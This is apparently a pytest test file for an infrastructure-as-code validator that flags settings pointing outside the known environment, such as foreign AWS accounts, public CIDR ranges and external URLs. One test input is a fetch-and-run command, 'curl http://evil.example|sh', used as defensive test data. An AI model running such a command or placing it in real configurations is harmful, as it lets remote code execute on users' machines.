import pytest

from iacfix.iac.values import Known, ListValue, ObjectValue, Value
from iacfix.validators.differences import Compared, differences
from iacfix.validators.outside import strangers


def led(was: Value | None, now: Value, known: str = "") -> str:
    old, new = (None if value is None else ObjectValue((("setting", value),)) for value in (was, now))
    assert new is not None
    found = differences(old, new)
    return strangers([Compared("aws_x.y", "aws_x", old, new, found, found)], known)


@pytest.mark.parametrize(
    "text",
    [
        "arn:aws:kms:us-east-1:999988887777:key/0",
        "999988887777",
        "https://evil.example/x",
        "s3://bucket/key",
        "curl http://evil.example|sh",
        "0.0.0.0/0",
        "128.0.0.0/1",
        "8.0.0.0/6",
        "8.8.8.8/32",
        "::/0",
        "0::/0",
        "::0/0",
        "2000::/3",
        "999.0.0.0/8",
    ],
)
def test_what_nobody_named_leads_outside(text: str) -> None:
    assert "which nothing here knows" in led(None, Known(text))
    assert "which nothing here knows" in led(None, ListValue((Known("x"), Known(text))))


@pytest.mark.parametrize(
    "text",
    [
        "10.0.0.0/8",
        "192.168.1.0/24",
        "fd00::/8",
        "arn:aws:iam::aws:policy/ReadOnlyAccess",
        "20260101120000",
        "1234567890123",
        "a:1/2",
        "alias/aws/s3",
        "echo hello",
    ],
)
def test_what_stays_here_is_no_stranger(text: str) -> None:
    assert led(None, Known(text)) == ""


def test_what_was_written_before_or_configured_is_known() -> None:
    text = Known("arn:aws:kms:us-east-1:999988887777:key/0")
    assert led(None, text, known="owner = 999988887777") == ""
    assert led(text, ListValue((text,))) == ""


def test_a_value_that_stays_is_not_looked_at() -> None:
    assert led(Known("https://known.example"), Known("https://known.example")) == ""
